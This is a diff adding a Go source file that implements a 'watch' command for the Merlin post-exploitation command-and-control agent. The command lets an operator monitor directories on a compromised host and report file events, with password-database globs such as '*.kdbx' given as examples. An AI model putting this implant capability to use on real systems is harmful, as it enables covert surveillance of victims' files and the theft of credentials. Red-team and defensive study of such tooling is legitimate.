@@ -0,0 +1,156 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"path/filepath"
+	"strings"
+	"sync"
+	"time"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+const (
+	// maxWatchDirectories caps how many directories a recursive watch registers
+	maxWatchDirectories = 4096
+	// fsEventCoalesce is how long repeated identical events for the same file are suppressed
+	fsEventCoalesce = time.Second
+)
+
+// fsEvent is a single file system change
+type fsEvent struct {
+	Op   string
+	Path string
+}
+
+// Watch monitors files and directories for changes and reports the events that match the name patterns on check-in
+// watch add <path> [patterns] [create,modify,delete]
+// watch list
+// watch stop <id>
+// Patterns are comma separated file name globs such as *.kdbx,procmon*.exe and default to every file
+func Watch(cmd jobs.Command, report Reporter) (results jobs.Results) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Watch() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		results.Stderr = "not enough arguments provided to the watch command"
+		return
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "add":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the watch add command"
+			return
+		}
+		patterns := []string{"*"}
+		if len(cmd.Args) > 2 {
+			patterns = strings.Split(cmd.Args[2], ",")
+			for _, pattern := range patterns {
+				if _, err := filepath.Match(pattern, ""); err != nil {
+					results.Stderr = fmt.Sprintf("%s is not a valid file name pattern: %s", pattern, err)
+					return
+				}
+			}
+		}
+		ops := map[string]bool{"create": true, "modify": true, "delete": true}
+		if len(cmd.Args) > 3 {
+			ops = make(map[string]bool)
+			for _, op := range strings.Split(strings.ToLower(cmd.Args[3]), ",") {
+				if op != "create" && op != "modify" && op != "delete" {
+					results.Stderr = fmt.Sprintf("%s is not a valid event, use create, modify, or delete", op)
+					return
+				}
+				ops[op] = true
+			}
+		}
+		path, err := filepath.Abs(cmd.Args[1])
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error getting the absolute path for %s: %s", cmd.Args[1], err)
+			return
+		}
+		m, err := startMonitor("watch", fmt.Sprintf("%s %s", path, strings.Join(patterns, ",")), report, func(m *monitor, stop <-chan struct{}) error {
+			return runWatch(m, path, patterns, ops, stop)
+		})
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Started watch %s on %s for %s", m.ID, path, strings.Join(patterns, ","))
+	case "list":
+		results.Stdout = listMonitors("watch")
+	case "stop":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the watch stop command"
+			return
+		}
+		if err := stopMonitor("watch", cmd.Args[1]); err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Stopped watch %s", cmd.Args[1])
+	default:
+		results.Stderr = fmt.Sprintf("unknown watch command: %s", cmd.Args[0])
+	}
+	return
+}
+
+// runWatch receives events from the operating system's watcher and records the ones that match as monitor events
+func runWatch(m *monitor, path string, patterns []string, ops map[string]bool, stop <-chan struct{}) error {
+	events := make(chan fsEvent, 256)
+	var wg sync.WaitGroup
+	wg.Add(1)
+	go func() {
+		defer wg.Done()
+		last := make(map[fsEvent]time.Time)
+		for event := range events {
+			if !ops[event.Op] || !matchesAny(filepath.Base(event.Path), patterns) {
+				continue
+			}
+			if seen, ok := last[event]; ok && time.Since(seen) < fsEventCoalesce {
+				continue
+			}
+			last[event] = time.Now()
+			if len(last) > maxMonitorPending {
+				last = make(map[fsEvent]time.Time)
+			}
+			m.event("%s %s", event.Op, event.Path)
+		}
+	}()
+	err := watchFiles(path, events, stop)
+	close(events)
+	wg.Wait()
+	return err
+}
+
+// matchesAny returns true if the file name matches any of the glob patterns, ignoring case
+func matchesAny(name string, patterns []string) bool {
+	for _, pattern := range patterns {
+		if ok, _ := filepath.Match(strings.ToLower(pattern), strings.ToLower(name)); ok {
+			return true
+		}
+	}
+	return false
+}